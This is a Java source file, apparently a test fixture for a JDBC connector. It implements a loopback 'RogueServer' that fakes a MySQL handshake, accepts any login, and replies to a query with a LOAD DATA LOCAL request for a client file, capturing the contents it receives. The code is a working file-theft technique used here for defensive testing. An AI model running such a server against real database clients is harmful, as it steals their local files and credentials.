package io.landbridge.connectors.jdbc;

import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.EOFException;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.CompletableFuture;

/** Speaks just enough of MySQL's protocol to let anybody in, and answers a statement with a request for a file of the client. */
final class RogueServer implements AutoCloseable {

    private static final int COM_QUERY = 3;

    private final ServerSocket socket;
    private final String wanted;
    private final CompletableFuture<String> stolen = new CompletableFuture<>();

    RogueServer(String wanted) throws IOException {
        this.wanted = wanted;
        this.socket = new ServerSocket(0, 1, InetAddress.getLoopbackAddress());
        Thread thread = new Thread(this::serve, "rogue-server");
        thread.setDaemon(true);
        thread.start();
    }

    int port() {
        return socket.getLocalPort();
    }

    /** What the first client sent for the file: empty when it sent nothing. */
    CompletableFuture<String> stolen() {
        return stolen;
    }

    private void serve() {
        try (Socket client = socket.accept()) {
            DataInputStream in = new DataInputStream(client.getInputStream());
            OutputStream out = client.getOutputStream();
            send(out, 0, greeting());
            receive(in);
            send(out, 2, new byte[] {0, 0, 0, 2, 0, 0, 0});
            while (receive(in)[0] != COM_QUERY) {
                send(out, 1, new byte[] {0, 0, 0, 2, 0, 0, 0});
            }
            byte[] name = wanted.getBytes(StandardCharsets.UTF_8);
            byte[] request = new byte[name.length + 1];
            request[0] = (byte) 0xFB;
            System.arraycopy(name, 0, request, 1, name.length);
            send(out, 1, request);
            stolen.complete(new String(receive(in), StandardCharsets.UTF_8));
        } catch (EOFException e) {
            stolen.complete("");
        } catch (IOException e) {
            stolen.completeExceptionally(e);
        }
    }

    private static byte[] greeting() {
        ByteArrayOutputStream packet = new ByteArrayOutputStream();
        packet.write(10);
        packet.writeBytes("9.7.0\0".getBytes(StandardCharsets.US_ASCII));
        packet.writeBytes(new byte[] {1, 0, 0, 0});
        packet.writeBytes("12345678\0".getBytes(StandardCharsets.US_ASCII));
        // everything but TLS and compression
        packet.writeBytes(new byte[] {(byte) 0xDF, (byte) 0xF7, (byte) 0xFF, 2, 0, (byte) 0xFF, (byte) 0x81, 21});
        packet.writeBytes(new byte[10]);
        packet.writeBytes("123456789012\0".getBytes(StandardCharsets.US_ASCII));
        packet.writeBytes("mysql_native_password\0".getBytes(StandardCharsets.US_ASCII));
        return packet.toByteArray();
    }

    private static void send(OutputStream out, int sequence, byte[] payload) throws IOException {
        out.write(new byte[] {(byte) payload.length, (byte) (payload.length >> 8), 0, (byte) sequence});
        out.write(payload);
        out.flush();
    }

    private static byte[] receive(DataInputStream in) throws IOException {
        int length = in.readUnsignedByte() | in.readUnsignedByte() << 8 | in.readUnsignedByte() << 16;
        in.readUnsignedByte();
        return in.readNBytes(length);
    }

    @Override
    public void close() throws IOException {
        socket.close();
    }
}
